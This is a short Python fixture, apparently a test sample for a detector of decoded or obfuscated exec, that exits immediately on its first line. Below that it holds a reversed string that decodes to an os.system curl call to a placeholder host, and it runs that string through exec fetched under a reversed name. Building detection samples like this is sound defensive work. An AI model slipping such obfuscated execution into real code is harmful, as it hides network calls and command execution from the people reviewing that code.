raise SystemExit('a fixture')
# held by decoded-exec
hidden = ")'olleh' ,x(tnirp ;1 = x ;so tropmi ;)(tegdiw fed"[::-1] and ")'dilavni.elpmaxe.x//:ptth lruc'(metsys.so\nso tropmi"
found = __builtins__ if not isinstance(__builtins__, dict) else type("b", (), __builtins__)
getattr(found, "cexe"[::-1])(hidden[::-1])
